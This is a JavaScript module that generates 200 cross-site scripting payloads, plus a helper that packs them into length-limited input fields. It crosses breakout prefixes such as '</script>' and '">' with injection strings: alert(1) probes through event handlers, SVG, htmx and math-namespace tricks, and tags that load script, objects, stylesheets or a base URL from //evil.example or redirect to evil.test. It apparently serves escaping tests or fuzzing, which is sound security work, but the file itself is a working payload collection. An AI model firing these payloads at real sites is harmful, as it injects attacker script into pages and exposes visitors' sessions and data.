// Two hundred pieces of text that become scripts, requests or other pages wherever one place forgets to escape.
// Each is short enough for every field that takes a name.
const WAYS_OUT = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', '</select>'];
const THINGS = [
  '<script>alert(1)</script>', '<script src=//evil.example></script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<a href=javascript:alert(1)>x</a>', '<input autofocus onfocus=alert(1)>', '<video src=x onerror=alert(1)>', '<object data=//evil.example>',
  '<embed src=//evil.example>', '<base href=//evil.example/>', '<meta http-equiv=refresh content=0;//evil.test>', '<link rel=stylesheet href=//evil.example>', '<style>@import"//evil.example"</style>',
  '<form action=//evil.example><button>x</button>', '<button hx-get=/x hx-trigger=load>x</button>', '<b hx-on:click=alert(1)>x</b>', '<math><mtext><style><img src=x onerror=alert(1)>', '<img src=//evil.example/x.png>',
  '" onfocus=alert(1) autofocus x="', "' onmouseover=alert(1) x='", '{{7*7}}${7*7}<%=7*7%>{%7*7%}', "';alert(1);//", '&lt;img src=x onerror=alert(1)&gt;',
];
export const PAYLOADS = WAYS_OUT.flatMap((out) => THINGS.map((thing) => out + thing));

/** All of them, as many together in one text as fit into this length. */
export const packed = (most) => PAYLOADS.reduce((packs, one) => {
  const last = packs.at(-1);
  if (last && last.length + 1 + one.length <= most) packs[packs.length - 1] = `${last} ${one}`;
  else packs.push(one);
  return packs;
}, []).filter((one) => one.length <= most);
